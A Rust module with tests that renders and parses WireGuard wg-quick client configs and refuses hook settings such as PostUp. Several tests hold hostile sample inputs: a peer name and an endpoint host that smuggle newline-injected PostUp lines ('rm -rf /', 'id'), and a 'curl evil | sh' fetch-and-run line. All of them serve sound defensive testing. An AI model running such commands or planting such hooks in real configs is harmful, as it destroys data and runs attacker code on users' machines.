//! The wg-quick client config: the text a device imports to join the appliance's tunnel.
//!
//! Layer: pure edge type. This module owns [`ClientConfig`], its rendering to the wg-quick
//! format that the WireGuard apps (wireguard-go inside) and `wg-quick` read, and the parser that
//! reads that format back. It touches nothing else; writing the text to a file, a terminal or a
//! QR code is the caller's business.
//!
//! Contract:
//! - [`ClientConfig::render`] writes the keys in a fixed order, `Key = value`, one blank line
//!   between `[Interface]` and `[Peer]`, and a trailing newline.
//! - `ClientConfig::parse(&c.render()) == Ok(c)` for every `c` whose `name` has no control
//!   characters or surrounding whitespace and whose `endpoint` is one [`Endpoint::parse`] could
//!   return. Control characters in a name are rendered as spaces and the name is trimmed, so a
//!   name can never inject a line (such as `PostUp = ...`) into the config.
//! - [`ClientConfig::parse`] reads keys and section headers case-insensitively like wg-quick,
//!   skips comments and blank lines, and refuses anything it does not model — in particular the
//!   wg-quick hooks (`PreUp`, `PostUp`, ...) — so an imported config can never carry a command.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr};

use crate::key::{PresharedKey, PrivateKey, PublicKey};
use crate::net::{parse_cidr_list, Endpoint, Ipv4Net};

/// The tunnel MTU written when nothing else is asked for; wg-quick's own default for IPv4 and
/// IPv6 underlay paths. The appliance's own IP stack uses the same value, so this is its one
/// definition.
pub const DEFAULT_MTU: u16 = 1420;

/// The `PrivateKey` value written when the device keeps its own private key.
pub const PRIVATE_KEY_PLACEHOLDER: &str = "REPLACE_WITH_YOUR_PRIVATE_KEY";

const PLACEHOLDER_COMMENT: &str = "# Replace the line below with this device's private key \
     (the phone generated it; it never leaves the phone).";

const NAME_COMMENT: &str = "# appliance peer:";

/// A complete wg-quick config for one client device talking to the appliance.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ClientConfig {
    /// The device's private key; `None` writes a placeholder the user replaces on the device.
    pub private_key: Option<PrivateKey>,
    /// The device's tunnel address, written as a /32.
    pub address: Ipv4Addr,
    /// DNS servers for the tunnel; the `DNS` line is left out when empty.
    pub dns: Vec<IpAddr>,
    /// Tunnel MTU, normally [`DEFAULT_MTU`].
    pub mtu: u16,
    /// The appliance's public key.
    pub server_public_key: PublicKey,
    /// The preshared key for this peer pair, if any.
    pub preshared_key: Option<PresharedKey>,
    /// Where the appliance listens.
    pub endpoint: Endpoint,
    /// Networks routed into the tunnel, normally just the tunnel subnet.
    pub allowed_ips: Vec<Ipv4Net>,
    /// Keepalive interval in seconds, for devices behind NAT.
    pub persistent_keepalive: Option<u16>,
    /// The peer's name, written as a leading comment.
    pub name: Option<String>,
}

/// Why a text could not be read as a client config.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ConfigError {
    /// A required section header never appeared.
    #[error(
        "the config has no [{section}] section; a client config needs one [Interface] \
         and one [Peer] section"
    )]
    MissingSection {
        /// `"Interface"` or `"Peer"`.
        section: &'static str,
    },
    /// A required setting never appeared in its section.
    #[error("the [{section}] section has no {field} line; add `{field} = ...` under [{section}]")]
    MissingField {
        /// `"Interface"` or `"Peer"`.
        section: &'static str,
        /// The canonical name of the missing setting, such as `"Endpoint"`.
        field: &'static str,
    },
    /// A setting this config does not model (including every wg-quick hook such as `PostUp`).
    #[error(
        "line {line}: '{field}' is not a setting of an appliance client config; remove that line \
         (allowed are PrivateKey, Address, DNS and MTU under [Interface], and PublicKey, \
         PresharedKey, Endpoint, AllowedIPs and PersistentKeepalive under [Peer])"
    )]
    UnknownField {
        /// 1-based line number.
        line: usize,
        /// The setting's name as written.
        field: String,
    },
    /// A line that is malformed, repeated, misplaced or whose value does not parse.
    #[error("line {line}, {field}: {reason}")]
    InvalidValue {
        /// 1-based line number.
        line: usize,
        /// The setting's canonical name, or the offending text when the line is not a setting.
        field: String,
        /// A sentence saying what is wrong and what is expected.
        reason: String,
    },
    /// More than one `[Peer]` section.
    #[error(
        "the config has more than one [Peer] section; an appliance client config talks to \
         exactly one server, so keep only the appliance's [Peer]"
    )]
    MultiplePeers,
}

impl ClientConfig {
    /// Writes the config in wg-quick format.
    pub fn render(&self) -> String {
        self.write(Layout::Readable)
    }

    /// The same settings in the fewest bytes, for a QR code: no comments (the peer's name, the
    /// placeholder's explanation), no blank line, `Key=value` without spaces. wg-quick and the
    /// WireGuard apps read it as they read [`ClientConfig::render`]'s text; a shorter text is a
    /// smaller code (a usual config drops from QR version 12 to 11, 4 modules a side).
    pub fn render_compact(&self) -> String {
        self.write(Layout::Compact)
    }

    fn write(&self, layout: Layout) -> String {
        let readable = layout == Layout::Readable;
        let eq = if readable { " = " } else { "=" };
        let mut out = String::new();
        // `writeln!` into a `String` cannot fail.
        let mut line = |s: std::fmt::Arguments<'_>| {
            let _ = writeln!(out, "{s}");
        };
        if let (Some(name), true) = (&self.name, readable) {
            line(format_args!("{NAME_COMMENT} {}", comment_safe(name)));
        }
        line(format_args!("[Interface]"));
        match &self.private_key {
            Some(k) => line(format_args!("PrivateKey{eq}{}", k.to_base64())),
            None => {
                if readable {
                    line(format_args!("{PLACEHOLDER_COMMENT}"));
                }
                line(format_args!("PrivateKey{eq}{PRIVATE_KEY_PLACEHOLDER}"));
            }
        }
        line(format_args!("Address{eq}{}/32", self.address));
        if !self.dns.is_empty() {
            line(format_args!("DNS{eq}{}", join(&self.dns, readable)));
        }
        line(format_args!("MTU{eq}{}", self.mtu));
        if readable {
            line(format_args!(""));
        }
        line(format_args!("[Peer]"));
        line(format_args!("PublicKey{eq}{}", self.server_public_key));
        if let Some(psk) = &self.preshared_key {
            line(format_args!("PresharedKey{eq}{}", psk.to_base64()));
        }
        // `Endpoint`'s fields are public; keep a hand-built host from breaking the line.
        line(format_args!(
            "Endpoint{eq}{}",
            single_line(&self.endpoint.to_string())
        ));
        line(format_args!(
            "AllowedIPs{eq}{}",
            join(&self.allowed_ips, readable)
        ));
        if let Some(k) = self.persistent_keepalive {
            line(format_args!("PersistentKeepalive{eq}{k}"));
        }
        out
    }

    /// Reads a wg-quick client config such as [`ClientConfig::render`] writes.
    ///
    /// `DNS` and `AllowedIPs` may repeat and accumulate, as in wg-quick; every other setting
    /// may appear once. `MTU` defaults to [`DEFAULT_MTU`]; `DNS`, `PresharedKey` and
    /// `PersistentKeepalive` are optional; `PrivateKey = REPLACE_WITH_YOUR_PRIVATE_KEY` reads as
    /// `private_key: None`; the first `# appliance peer: NAME` comment sets `name`.
    pub fn parse(text: &str) -> Result<ClientConfig, ConfigError> {
        Parser::default().run(text)
    }
}

/// How [`ClientConfig::write`] lays the settings out.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Layout {
    /// For people: the name comment, spaces around `=`, a blank line between sections.
    Readable,
    /// For QR codes: the settings only.
    Compact,
}

fn join<T: std::fmt::Display>(items: &[T], readable: bool) -> String {
    items
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(if readable { ", " } else { "," })
}

/// `s` with every control character (newlines included) turned into a space.
fn single_line(s: &str) -> String {
    s.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn comment_safe(s: &str) -> String {
    single_line(s).trim().to_owned()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Section {
    Before,
    Interface,
    Peer,
}

#[derive(Default)]
struct Parser {
    name: Option<String>,
    seen_interface: bool,
    seen_peer: bool,
    private_key: Option<Option<PrivateKey>>,
    address: Option<Ipv4Addr>,
    dns: Vec<IpAddr>,
    mtu: Option<u16>,
    public_key: Option<PublicKey>,
    preshared_key: Option<PresharedKey>,
    endpoint: Option<Endpoint>,
    allowed_ips: Option<Vec<Ipv4Net>>,
    persistent_keepalive: Option<Option<u16>>,
}

fn invalid(line: usize, field: &str, reason: impl Into<String>) -> ConfigError {
    ConfigError::InvalidValue {
        line,
        field: field.to_owned(),
        reason: reason.into(),
    }
}

/// Stores `value` in `slot`, refusing a second occurrence of the same setting.
fn set_once<T>(
    slot: &mut Option<T>,
    value: T,
    line: usize,
    field: &str,
) -> Result<(), ConfigError> {
    if slot.is_some() {
        return Err(invalid(
            line,
            field,
            format!("{field} is set a second time; keep a single {field} line"),
        ));
    }
    *slot = Some(value);
    Ok(())
}

impl Parser {
    fn run(mut self, text: &str) -> Result<ClientConfig, ConfigError> {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        let mut section = Section::Before;
        for (index, raw) in text.lines().enumerate() {
            let line = index + 1;
            let trimmed = raw.trim();
            if trimmed.starts_with('#') {
                if let Some(rest) = trimmed.strip_prefix(NAME_COMMENT) {
                    // Read the name as `render` writes it (control characters as spaces), so
                    // a parsed config renders and parses back to itself (found by fuzzing).
                    self.name.get_or_insert_with(|| comment_safe(rest));
                }
                continue;
            }
            // As in wg and wg-quick, `#` starts a comment anywhere on a line.
            let content = trimmed
                .split_once('#')
                .map_or(trimmed, |(c, _)| c.trim_end());
            if content.is_empty() {
                continue;
            }
            if content.starts_with('[') {
                section = self.header(line, content)?;
                continue;
            }
            let Some((key, value)) = content.split_once('=') else {
                return Err(invalid(
                    line,
                    content,
                    "this line is neither a section header nor a `Key = value` setting",
                ));
            };
            let (key, value) = (key.trim(), value.trim());
            match section {
                Section::Before => {
                    return Err(invalid(
                        line,
                        key,
                        "settings must come after an [Interface] or [Peer] header",
                    ))
                }
                Section::Interface => self.interface_setting(line, key, value)?,
                Section::Peer => self.peer_setting(line, key, value)?,
            }
        }
        self.finish()
    }

    fn header(&mut self, line: usize, content: &str) -> Result<Section, ConfigError> {
        let inner = content
            .strip_prefix('[')
            .and_then(|c| c.strip_suffix(']'))
            .map(str::trim);
        match inner {
            Some(s) if s.eq_ignore_ascii_case("interface") => {
                if self.seen_interface {
                    return Err(invalid(
                        line,
                        "[Interface]",
                        "a second [Interface] section; a client config has exactly one",
                    ));
                }
                self.seen_interface = true;
                Ok(Section::Interface)
            }
            Some(s) if s.eq_ignore_ascii_case("peer") => {
                if self.seen_peer {
                    return Err(ConfigError::MultiplePeers);
                }
                self.seen_peer = true;
                Ok(Section::Peer)
            }
            _ => Err(invalid(
                line,
                content,
                "this is not a section a client config can hold; use [Interface] or [Peer]",
            )),
        }
    }

    fn interface_setting(
        &mut self,
        line: usize,
        key: &str,
        value: &str,
    ) -> Result<(), ConfigError> {
        let err = |field: &str, e: &dyn std::fmt::Display| invalid(line, field, e.to_string());
        if key.eq_ignore_ascii_case("PrivateKey") {
            let key = if value.eq_ignore_ascii_case(PRIVATE_KEY_PLACEHOLDER) {
                None
            } else {
                Some(PrivateKey::parse(value).map_err(|e| err("PrivateKey", &e))?)
            };
            set_once(&mut self.private_key, key, line, "PrivateKey")
        } else if key.eq_ignore_ascii_case("Address") {
            let nets = parse_cidr_list(value).map_err(|e| err("Address", &e))?;
            let [net] = nets.as_slice() else {
                return Err(invalid(
                    line,
                    "Address",
                    "the appliance gives each device exactly one IPv4 address, such as 10.88.88.2/32",
                ));
            };
            if net.prefix() != 32 {
                return Err(invalid(
                    line,
                    "Address",
                    format!(
                        "'{net}' is a network; the appliance gives each device one address, \
                         written as {}/32",
                        net.addr()
                    ),
                ));
            }
            set_once(&mut self.address, net.addr(), line, "Address")
        } else if key.eq_ignore_ascii_case("DNS") {
            for entry in value.split(',').map(str::trim) {
                let ip = entry.parse::<IpAddr>().map_err(|_| {
                    invalid(
                        line,
                        "DNS",
                        format!(
                            "'{entry}' is not an IP address; list DNS server addresses \
                             separated by commas, such as 1.1.1.1, 9.9.9.9"
                        ),
                    )
                })?;
                self.dns.push(ip);
            }
            Ok(())
        } else if key.eq_ignore_ascii_case("MTU") {
            let mtu = parse_u16(value).ok_or_else(|| {
                invalid(
                    line,
                    "MTU",
                    format!(
                        "'{value}' is not a number from 0 to 65535; the usual MTU is {DEFAULT_MTU}"
                    ),
                )
            })?;
            set_once(&mut self.mtu, mtu, line, "MTU")
        } else {
            Err(ConfigError::UnknownField {
                line,
                field: key.to_owned(),
            })
        }
    }

    fn peer_setting(&mut self, line: usize, key: &str, value: &str) -> Result<(), ConfigError> {
        let err = |field: &str, e: &dyn std::fmt::Display| invalid(line, field, e.to_string());
        if key.eq_ignore_ascii_case("PublicKey") {
            let k = PublicKey::parse(value).map_err(|e| err("PublicKey", &e))?;
            set_once(&mut self.public_key, k, line, "PublicKey")
        } else if key.eq_ignore_ascii_case("PresharedKey") {
            let k = PresharedKey::parse(value).map_err(|e| err("PresharedKey", &e))?;
            set_once(&mut self.preshared_key, k, line, "PresharedKey")
        } else if key.eq_ignore_ascii_case("Endpoint") {
            let (host, port) = Endpoint::parse_parts(value).map_err(|e| err("Endpoint", &e))?;
            let Some(port) = port else {
                return Err(invalid(
                    line,
                    "Endpoint",
                    format!("'{value}' has no port; write it as host:port, such as vpn.example.org:51820"),
                ));
            };
            set_once(
                &mut self.endpoint,
                Endpoint { host, port },
                line,
                "Endpoint",
            )
        } else if key.eq_ignore_ascii_case("AllowedIPs") {
            // An empty value means "no networks", as in wg.
            let nets = if value.is_empty() {
                Vec::new()
            } else {
                parse_cidr_list(value).map_err(|e| err("AllowedIPs", &e))?
            };
            self.allowed_ips.get_or_insert_with(Vec::new).extend(nets);
            Ok(())
        } else if key.eq_ignore_ascii_case("PersistentKeepalive") {
            let k = if value.eq_ignore_ascii_case("off") {
                None
            } else {
                Some(parse_u16(value).ok_or_else(|| {
                    invalid(
                        line,
                        "PersistentKeepalive",
                        format!("'{value}' is neither off nor a number of seconds from 0 to 65535, such as 25"),
                    )
                })?)
            };
            set_once(
                &mut self.persistent_keepalive,
                k,
                line,
                "PersistentKeepalive",
            )
        } else {
            Err(ConfigError::UnknownField {
                line,
                field: key.to_owned(),
            })
        }
    }

    fn finish(self) -> Result<ClientConfig, ConfigError> {
        if !self.seen_interface {
            return Err(ConfigError::MissingSection {
                section: "Interface",
            });
        }
        if !self.seen_peer {
            return Err(ConfigError::MissingSection { section: "Peer" });
        }
        let missing = |section, field| ConfigError::MissingField { section, field };
        Ok(ClientConfig {
            private_key: self.private_key.ok_or(missing("Interface", "PrivateKey"))?,
            address: self.address.ok_or(missing("Interface", "Address"))?,
            dns: self.dns,
            mtu: self.mtu.unwrap_or(DEFAULT_MTU),
            server_public_key: self.public_key.ok_or(missing("Peer", "PublicKey"))?,
            preshared_key: self.preshared_key,
            endpoint: self.endpoint.ok_or(missing("Peer", "Endpoint"))?,
            allowed_ips: self.allowed_ips.ok_or(missing("Peer", "AllowedIPs"))?,
            persistent_keepalive: self.persistent_keepalive.flatten(),
            name: self.name,
        })
    }
}

/// Digits only (no sign, no spaces), within `u16`.
fn parse_u16(s: &str) -> Option<u16> {
    if s.is_empty() || !s.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    s.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand_chacha::rand_core::SeedableRng;
    use rand_chacha::ChaCha20Rng;

    fn sample() -> ClientConfig {
        ClientConfig {
            private_key: Some(PrivateKey::from_bytes([0x11; 32])),
            address: Ipv4Addr::new(10, 88, 88, 2),
            dns: vec![],
            mtu: DEFAULT_MTU,
            server_public_key: PublicKey::from_bytes([0x22; 32]).unwrap(),
            preshared_key: Some(PresharedKey::from_bytes([0x33; 32])),
            endpoint: Endpoint::parse("vpn.example.org:51820", 51820).unwrap(),
            allowed_ips: vec!["10.88.88.0/24".parse().unwrap()],
            persistent_keepalive: Some(25),
            name: Some("alice".into()),
        }
    }

    /// Found by fuzzing (`fuzz/corpus/wg_config/regress-control-chars-in-name`): control
    /// characters in the name comment were kept by `parse` but written as spaces by `render`,
    /// so a parsed config did not survive its own round trip.
    #[test]
    fn control_characters_in_the_name_comment_round_trip() {
        let mut text = sample().render();
        text = text.replacen("alice", "\u{14}al\u{0}\u{0}ice\u{7}", 1);
        let parsed = ClientConfig::parse(&text).unwrap();
        assert_eq!(parsed.name.as_deref(), Some("al  ice"));
        assert_eq!(ClientConfig::parse(&parsed.render()).unwrap(), parsed);
    }

    #[test]
    fn golden_render() {
        let text = sample().render();
        assert_eq!(
            text,
            "# appliance peer: alice\n\
             [Interface]\n\
             PrivateKey = ERERERERERERERERERERERERERERERERERERERERERE=\n\
             Address = 10.88.88.2/32\n\
             MTU = 1420\n\
             \n\
             [Peer]\n\
             PublicKey = IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=\n\
             PresharedKey = MzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzM=\n\
             Endpoint = vpn.example.org:51820\n\
             AllowedIPs = 10.88.88.0/24\n\
             PersistentKeepalive = 25\n"
        );
    }

    #[test]
    fn golden_render_placeholder_and_dns() {
        let c = ClientConfig {
            private_key: None,
            dns: vec![
                "1.1.1.1".parse().unwrap(),
                "2606:4700:4700::1111".parse().unwrap(),
            ],
            preshared_key: None,
            persistent_keepalive: None,
            name: None,
            endpoint: Endpoint::parse("[2001:db8::1]:443", 1).unwrap(),
            allowed_ips: vec![
                "10.88.88.0/24".parse().unwrap(),
                "192.168.7.0/24".parse().unwrap(),
            ],
            mtu: 1280,
            ..sample()
        };
        assert_eq!(
            c.render(),
            "[Interface]\n\
             # Replace the line below with this device's private key (the phone generated it; it never leaves the phone).\n\
             PrivateKey = REPLACE_WITH_YOUR_PRIVATE_KEY\n\
             Address = 10.88.88.2/32\n\
             DNS = 1.1.1.1, 2606:4700:4700::1111\n\
             MTU = 1280\n\
             \n\
             [Peer]\n\
             PublicKey = IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=\n\
             Endpoint = [2001:db8::1]:443\n\
             AllowedIPs = 10.88.88.0/24, 192.168.7.0/24\n"
        );
    }

    #[test]
    fn compact_render_is_the_same_config_in_fewer_bytes() {
        let c = sample();
        let compact = c.render_compact();
        assert_eq!(
            compact,
            "[Interface]\n\
             PrivateKey=ERERERERERERERERERERERERERERERERERERERERERE=\n\
             Address=10.88.88.2/32\n\
             MTU=1420\n\
             [Peer]\n\
             PublicKey=IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=\n\
             PresharedKey=MzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzM=\n\
             Endpoint=vpn.example.org:51820\n\
             AllowedIPs=10.88.88.0/24\n\
             PersistentKeepalive=25\n"
        );
        assert_eq!((compact.len(), c.render().len()), (298, 339));
        // Every setting but the name (a comment) reads back.
        let back = ClientConfig::parse(&compact).unwrap();
        assert_eq!(back, ClientConfig { name: None, ..c });

        let c = ClientConfig {
            private_key: None,
            dns: vec!["1.1.1.1".parse().unwrap(), "9.9.9.9".parse().unwrap()],
            allowed_ips: vec![
                "10.88.88.0/24".parse().unwrap(),
                "192.168.7.0/24".parse().unwrap(),
            ],
            ..sample()
        };
        let compact = c.render_compact();
        assert!(
            !compact.contains('#') && !compact.contains(' '),
            "{compact}"
        );
        assert!(compact.contains("PrivateKey=REPLACE_WITH_YOUR_PRIVATE_KEY\nAddress="));
        assert!(compact.contains("DNS=1.1.1.1,9.9.9.9\n"));
        assert!(compact.contains("AllowedIPs=10.88.88.0/24,192.168.7.0/24\n"));
        assert_eq!(
            ClientConfig::parse(&compact).unwrap(),
            ClientConfig { name: None, ..c }
        );
    }

    #[test]
    fn round_trips() {
        let mut rng = ChaCha20Rng::seed_from_u64(42);
        let base = sample();
        let mut cases = vec![
            base.clone(),
            ClientConfig {
                preshared_key: None,
                ..base.clone()
            },
            ClientConfig {
                private_key: None,
                ..base.clone()
            },
            ClientConfig {
                dns: vec!["9.9.9.9".parse().unwrap(), "::1".parse().unwrap()],
                ..base.clone()
            },
            ClientConfig {
                persistent_keepalive: None,
                name: None,
                ..base.clone()
            },
            ClientConfig {
                persistent_keepalive: Some(0),
                mtu: 0,
                allowed_ips: vec![],
                ..base.clone()
            },
            ClientConfig {
                name: Some("".into()),
                ..base.clone()
            },
            ClientConfig {
                name: Some("Zoë's phone #2 [old]".into()),
                endpoint: Endpoint::parse("203.0.113.7:65535", 1).unwrap(),
                ..base.clone()
            },
        ];
        for _ in 0..8 {
            let sk = PrivateKey::generate(&mut rng);
            cases.push(ClientConfig {
                server_public_key: PrivateKey::generate(&mut rng).public_key(),
                private_key: Some(sk),
                preshared_key: Some(PresharedKey::generate(&mut rng)),
                ..base.clone()
            });
        }
        for c in cases {
            let text = c.render();
            assert_eq!(ClientConfig::parse(&text), Ok(c.clone()), "{text}");
        }
    }

    #[test]
    fn names_cannot_inject_lines() {
        let c = ClientConfig {
            name: Some("x\nPostUp = rm -rf /\r".into()),
            ..sample()
        };
        let text = c.render();
        assert!(text.starts_with("# appliance peer: x PostUp = rm -rf /\n[Interface]\n"));
        let back = ClientConfig::parse(&text).unwrap();
        assert_eq!(back.name.as_deref(), Some("x PostUp = rm -rf /"));
    }

    #[test]
    fn hand_built_endpoints_cannot_inject_lines() {
        let c = ClientConfig {
            endpoint: Endpoint {
                host: "a\nPostUp = id".into(),
                port: 1,
            },
            ..sample()
        };
        let text = c.render();
        assert!(text.contains("Endpoint = a PostUp = id:1\n"), "{text}");
        assert!(!text.lines().any(|l| l.starts_with("PostUp")));
        assert!(matches!(
            ClientConfig::parse(&text),
            Err(ConfigError::InvalidValue { line: 10, .. })
        ));
    }

    #[test]
    fn parse_is_lenient_like_wg_quick() {
        let text = "\u{feff}# a comment\r\n\
                    \r\n\
                    [interface]\r\n\
                    privatekey=ERERERERERERERERERERERERERERERERERERERERERE=   # inline comment\r\n\
                    ADDRESS = 10.88.88.2\r\n\
                    dns = 1.1.1.1\r\n\
                    Dns = 9.9.9.9\r\n\
                    [ PEER ]\r\n\
                    \tPublicKey = IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=\r\n\
                    Endpoint = vpn.example.org:51820\r\n\
                    AllowedIPs = 10.88.88.0/24\r\n\
                    AllowedIPs = 10.9.0.0/16\r\n\
                    PersistentKeepalive = off\r\n";
        let c = ClientConfig::parse(text).unwrap();
        assert_eq!(c.address, Ipv4Addr::new(10, 88, 88, 2));
        assert_eq!(c.mtu, DEFAULT_MTU);
        assert_eq!(c.dns.len(), 2);
        assert_eq!(c.allowed_ips.len(), 2);
        assert_eq!(c.persistent_keepalive, None);
        assert_eq!(c.preshared_key, None);
        assert_eq!(c.name, None);
        assert_eq!(c.private_key, Some(PrivateKey::from_bytes([0x11; 32])));
    }

    fn parse_err(text: &str) -> ConfigError {
        ClientConfig::parse(text).unwrap_err()
    }

    #[test]
    fn missing_sections_and_fields() {
        let full = sample().render();
        assert_eq!(
            parse_err(""),
            ConfigError::MissingSection {
                section: "Interface"
            }
        );
        let interface_only = full.split("[Peer]").next().unwrap();
        assert_eq!(
            parse_err(interface_only),
            ConfigError::MissingSection { section: "Peer" }
        );
        for (line, section, field) in [
            ("PrivateKey", "Interface", "PrivateKey"),
            ("Address", "Interface", "Address"),
            ("PublicKey", "Peer", "PublicKey"),
            ("Endpoint", "Peer", "Endpoint"),
            ("AllowedIPs", "Peer", "AllowedIPs"),
        ] {
            let text: String = full
                .lines()
                .filter(|l| !l.starts_with(line))
                .map(|l| format!("{l}\n"))
                .collect();
            assert_eq!(
                parse_err(&text),
                ConfigError::MissingField { section, field },
                "{text}"
            );
        }
        assert_eq!(
            ConfigError::MissingField {
                section: "Peer",
                field: "Endpoint"
            }
            .to_string(),
            "the [Peer] section has no Endpoint line; add `Endpoint = ...` under [Peer]"
        );
    }

    /// Replaces the line starting with `prefix` in the sample config with `with`.
    fn replace(prefix: &str, with: &str) -> String {
        sample()
            .render()
            .lines()
            .map(|l| {
                if l.starts_with(prefix) {
                    format!("{with}\n")
                } else {
                    format!("{l}\n")
                }
            })
            .collect()
    }

    #[test]
    fn errors_name_line_and_field() {
        // Line numbers in the sample: 1 comment, 2 [Interface], 3 PrivateKey, 4 Address,
        // 5 MTU, 6 blank, 7 [Peer], 8 PublicKey, 9 PresharedKey, 10 Endpoint, 11 AllowedIPs,
        // 12 PersistentKeepalive.
        assert_eq!(
            parse_err(&replace("MTU", "PostUp = curl evil | sh")),
            ConfigError::UnknownField {
                line: 5,
                field: "PostUp".into()
            }
        );
        assert_eq!(
            parse_err(&replace("MTU", "ListenPort = 51820")),
            ConfigError::UnknownField {
                line: 5,
                field: "ListenPort".into()
            }
        );
        // A [Peer] key in [Interface] is unknown there.
        assert_eq!(
            parse_err(&replace("MTU", "Endpoint = a:1")),
            ConfigError::UnknownField {
                line: 5,
                field: "Endpoint".into()
            }
        );
        let cases = [
            ("PrivateKey", "PrivateKey = short", 3, "PrivateKey"),
            ("Address", "Address = 10.88.88.300/32", 4, "Address"),
            ("Address", "Address = 10.88.88.2/24", 4, "Address"),
            ("Address", "Address = 10.88.88.2, 10.88.88.3", 4, "Address"),
            ("Address", "Address = fd00::2/128", 4, "Address"),
            ("MTU", "MTU = big", 5, "MTU"),
            ("MTU", "MTU = 70000", 5, "MTU"),
            ("MTU", "DNS = corp.example", 5, "DNS"),
            ("PublicKey", "PublicKey = AAAA", 8, "PublicKey"),
            ("PresharedKey", "PresharedKey = !!", 9, "PresharedKey"),
            ("Endpoint", "Endpoint = vpn.example.org", 10, "Endpoint"),
            ("Endpoint", "Endpoint = vpn.example.org:0", 10, "Endpoint"),
            ("AllowedIPs", "AllowedIPs = 10.0.0.0/33", 11, "AllowedIPs"),
            ("AllowedIPs", "AllowedIPs = ::/0", 11, "AllowedIPs"),
            (
                "Persistent",
                "PersistentKeepalive = -1",
                12,
                "PersistentKeepalive",
            ),
            ("MTU", "MTU = 1420\nMTU = 1280", 6, "MTU"),
            ("MTU", "just some words", 5, "just some words"),
            ("MTU", "[Wat]", 5, "[Wat]"),
            ("MTU", "[Interface]", 5, "[Interface]"),
            ("# appliance", "Address = 10.88.88.9/32", 1, "Address"),
        ];
        for (prefix, with, line, field) in cases {
            let text = replace(prefix, with);
            match parse_err(&text) {
                ConfigError::InvalidValue {
                    line: l,
                    field: f,
                    reason,
                } => {
                    assert_eq!((l, f.as_str()), (line, field), "{with}: {reason}");
                    assert!(!reason.is_empty());
                }
                other => panic!("{with}: expected InvalidValue, got {other:?}"),
            }
        }
        let e = parse_err(&replace("Address", "Address = 10.88.88.300/32"));
        assert_eq!(
            e.to_string(),
            "line 4, Address: '10.88.88.300' is not an IPv4 address: expected four numbers 0-255 \
             joined by dots, such as 10.88.88.0"
        );
        let e = parse_err(&replace("Endpoint", "Endpoint = vpn.example.org"));
        assert!(e.to_string().contains("has no port"), "{e}");
    }

    #[test]
    fn refuses_a_second_peer() {
        let mut text = sample().render();
        text.push_str("\n[Peer]\nPublicKey = IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiI=\n");
        assert_eq!(parse_err(&text), ConfigError::MultiplePeers);
    }
}
